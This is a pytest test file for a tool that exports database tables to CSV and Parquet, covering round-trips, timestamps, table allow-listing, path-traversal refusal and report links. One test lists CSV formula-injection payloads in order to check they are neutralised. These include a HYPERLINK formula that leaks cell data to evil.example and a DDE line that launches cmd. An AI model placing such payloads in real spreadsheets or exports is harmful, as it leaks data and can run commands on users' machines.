"""Exports round-trip: one run's rows of every existing table, read back from Parquet and
CSV exactly as stored (lists as JSON text in CSV, formula-like text neutralised), and
linked from the report."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path

import duckdb
import pytest
from bs4 import BeautifulSoup

from tests.reports.conftest import Health, add_social_tables, insert_health
from unsilo.reports.exports import EXPORT_TABLES, TIMESTAMP_TEXT, existing_tables, export_run
from unsilo.reports.render import ReportError, render_report

MULTILINE = 'Line one,\n"quoted", line two; æøå ✓'


def rows_of(con: duckdb.DuckDBPyConnection, sql: str, params: list | None = None) -> list[tuple]:
    return sorted(con.execute(sql, params or []).fetchall(), key=repr)


def read_csv(path: Path) -> list[dict[str, str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets read æøå
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def exported(con: duckdb.DuckDBPyConnection, shop, db, tmp_path: Path):
    db.levels(shop.current, [db.Level("https://shop.example/m", title=MULTILINE)])
    files = export_run(con, shop.current, tmp_path / "out")
    return tmp_path / "out" / "exports" / shop.current, files


def test_writes_each_existing_table_in_both_formats(con, shop, exported) -> None:
    folder, files = exported
    tables = existing_tables(con)
    assert "profile_health" not in tables  # the social marts were not created here
    assert {"pages", "page_levels", "findings", "shop_profiles"} <= set(tables)
    assert sorted(p.name for p in files) == sorted(
        f"{t}.{fmt}" for t in tables for fmt in ("csv", "parquet")
    )
    assert sorted(p.name for p in folder.iterdir()) == sorted(p.name for p in files)


def test_parquet_reads_back_as_the_run_rows(con, shop, exported) -> None:
    folder, _ = exported
    for table in ("page_levels", "findings", "shop_profiles"):
        stored = rows_of(con, f"select * from {table} where run_id = ?", [shop.current])
        back = rows_of(con, "select * from read_parquet(?)", [str(folder / f"{table}.parquet")])
        assert back == stored and stored, table
    [(earned,)] = con.execute(
        "select earned from read_parquet(?) where url = 'https://shop.example/'",
        [str(folder / "page_levels.parquet")],
    ).fetchall()
    assert earned == ["Open Graph complete (+30)"]  # lists stay lists


def test_csv_has_header_json_lists_and_hostile_text_intact(con, shop, exported) -> None:
    folder, _ = exported
    rows = read_csv(folder / "page_levels.csv")
    columns = [
        c for (c,) in con.execute("select column_name from (describe page_levels)").fetchall()
    ]
    assert list(rows[0]) == columns
    by_url = {r["url"]: r for r in rows}
    assert json.loads(by_url["https://shop.example/"]["earned"]) == ["Open Graph complete (+30)"]
    assert json.loads(by_url["https://shop.example/p/1"]["missed"]) == ["No share button (+20)"]
    assert by_url["https://shop.example/m"]["title"] == MULTILINE
    assert by_url["https://shop.example/p/1"]["title"] == shop.hostile_title
    assert shop.js_url in by_url and shop.quote_url in by_url
    assert by_url[shop.non_ascii_url]["title"] == shop.non_ascii_title


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_start_like_formulas_are_neutralised(con, shop, db, tmp_path) -> None:
    """OWASP's CSV-injection list: such a cell gets a leading quote in CSV, raw in Parquet."""
    rows = [db.Level(f"https://shop.example/f/{i}", title=t) for i, t in enumerate(FORMULAS)]
    rows.append(db.Level("https://shop.example/f/plain", title="Sko = 200 kr. – spar 20%"))
    db.levels(shop.current, rows)
    export_run(con, shop.current, tmp_path)
    folder = tmp_path / "exports" / shop.current
    csv_titles = {r["url"]: r["title"] for r in read_csv(folder / "page_levels.csv")}
    for i, title in enumerate(FORMULAS):
        assert csv_titles[f"https://shop.example/f/{i}"] == "'" + title
    assert csv_titles["https://shop.example/f/plain"] == "Sko = 200 kr. – spar 20%"
    raw = dict(
        con.execute(
            "select url, title from read_parquet(?) where url like '%/f/%'",
            [str(folder / "page_levels.parquet")],
        ).fetchall()
    )
    assert [raw[f"https://shop.example/f/{i}"] for i in range(len(FORMULAS))] == FORMULAS
    numbers = read_csv(folder / "page_levels.csv")[0]
    assert not numbers["score"].startswith("'")  # numbers stay numbers


def test_other_runs_rows_are_not_exported(con, shop, exported) -> None:
    folder, _ = exported
    for table in ("page_levels", "findings"):
        run_ids = {r["run_id"] for r in read_csv(folder / f"{table}.csv")}
        assert run_ids == {shop.current}, table
    [(count,)] = con.execute(
        "select count(*) from read_parquet(?)", [str(folder / "page_levels.parquet")]
    ).fetchall()
    assert count == len(shop.current_levels) + 1


def test_trends_export_holds_the_runs_totals_one_row_per_measure(con, shop, exported) -> None:
    folder, _ = exported
    stored = rows_of(con, "select * from trends where run_id = ?", [shop.current])
    back = rows_of(con, "select * from read_parquet(?)", [str(folder / "trends.parquet")])
    assert back == stored
    rows = read_csv(folder / "trends.csv")
    keys = [(r["measure"], r["subject"]) for r in rows]
    assert len(keys) == len(set(keys)) == len(stored)  # one row per measure (and subject)
    assert {r["run_id"] for r in rows} == {shop.current}
    by_key = {(r["measure"], r["subject"]): r["value"] for r in rows}
    assert float(by_key[("pages_at_level", "siloed")]) == 4  # CURRENT_LEVELS + the one added
    assert float(by_key[("findings_by_severity", "medium")]) == 7


def test_social_marts_are_exported_once_they_exist(con, shop, tmp_path: Path) -> None:
    add_social_tables(con)
    insert_health(con, shop.current, [Health("<b>shop</b>", judgements=["a, b", 'say "hi"'])])
    insert_health(con, shop.previous, [Health("old")])
    files = export_run(con, shop.current, tmp_path, formats=("csv",))
    assert {p.name for p in files} >= {"profile_health.csv", "shop_post_links.csv"}
    [row] = read_csv(tmp_path / "exports" / shop.current / "profile_health.csv")
    assert row["handle"] == "<b>shop</b>"
    assert json.loads(row["judgements"]) == ["a, b", 'say "hi"']
    assert read_csv(tmp_path / "exports" / shop.current / "shop_post_links.csv") == []


def test_only_allow_listed_tables_are_exported(con, shop, tmp_path: Path) -> None:
    con.execute("create table secrets (run_id varchar, token varchar)")
    con.execute("insert into secrets values (?, 'hunter2')", [shop.current])
    files = export_run(con, shop.current, tmp_path)
    assert all(p.stem in EXPORT_TABLES for p in files)
    assert not list(tmp_path.rglob("secrets.*"))


@pytest.mark.parametrize("run_id", ["../escape", "", ".hidden", "a/b"])
def test_run_ids_that_leave_the_folder_are_refused(con, tmp_path: Path, run_id: str) -> None:
    with pytest.raises(ReportError, match="cannot name an export folder"):
        export_run(con, run_id, tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_unknown_format_is_refused(con, shop, tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="unknown export format"):
        export_run(con, shop.current, tmp_path, formats=("xlsx",))


def test_report_links_existing_exports_relatively(con, shop, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export_run(con, shop.current, out, formats=("parquet",))
    report = render_report(con, shop.current, out / "runs" / f"{shop.current}.html")
    soup = BeautifulSoup(report.read_text(encoding="utf-8"), "html.parser")
    hrefs = [a["href"] for a in soup.select("#export-links a.export")]
    assert hrefs and all(h.startswith("../exports/") for h in hrefs)
    assert all((report.parent / h).resolve().is_file() for h in hrefs)
    tables = [li["data-table"] for li in soup.select("#export-links li")]
    assert sorted(tables) == sorted(existing_tables(con))
    assert {a.get_text() for a in soup.select("#export-links a.export")} == {"parquet"}


def test_report_without_exports_says_so(shop, render) -> None:
    soup = render(shop.current)
    assert soup.select_one("#export-links") is None
    assert "No exports" in soup.select_one("#exports").get_text()


def test_parquet_types_the_text_instants_as_timestamps(con, shop, tmp_path: Path) -> None:
    """Items carry instants as ISO text; in Parquet they are TIMESTAMP (UTC), CSV keeps text."""
    con.execute(
        "insert into pages (run_id, url, url_key, final_url, final_url_key, status, fetched_at)"
        " values ($1, 'https://shop.example/t', 'k', 'https://shop.example/t', 'k', 200,"
        " '2026-11-01T02:03:04+01:00')",
        [shop.current],
    )
    export_run(con, shop.current, tmp_path)
    folder = tmp_path / "exports" / shop.current
    checked = []
    for table, name in sorted(TIMESTAMP_TEXT):
        if table in existing_tables(con):
            parquet = folder / f"{table}.parquet"
            described = con.execute(f"describe select * from read_parquet('{parquet}')")
            types = {row[0]: row[1] for row in described.fetchall()}
            if name in types:  # the fixture's marts hold only the columns the report reads
                assert types[name] == "TIMESTAMP", (table, name)
                checked.append((table, name))
    assert ("pages", "fetched_at") in checked and ("page_levels", "first_shared") in checked
    [(fetched,)] = con.execute(
        "select fetched_at from read_parquet(?)", [str(folder / "pages.parquet")]
    ).fetchall()
    assert fetched == datetime(2026, 11, 1, 1, 3, 4)  # the instant, in UTC
    [row] = read_csv(folder / "pages.csv")
    assert row["fetched_at"] == "2026-11-01T02:03:04+01:00"


def test_every_text_instant_column_is_declared(con, shop) -> None:
    """A new ``*_at`` text column must join TIMESTAMP_TEXT, or its Parquet is text again."""
    add_social_tables(con)
    text_instants = con.execute(
        "select table_name, column_name from information_schema.columns"
        " where data_type = 'VARCHAR' and (column_name like '%\\_at' escape '\\'"
        " or column_name like 'first\\_%' escape '\\')"
    ).fetchall()
    exported = [(t, c) for t, c in text_instants if t in EXPORT_TABLES]
    assert exported and set(exported) <= TIMESTAMP_TEXT
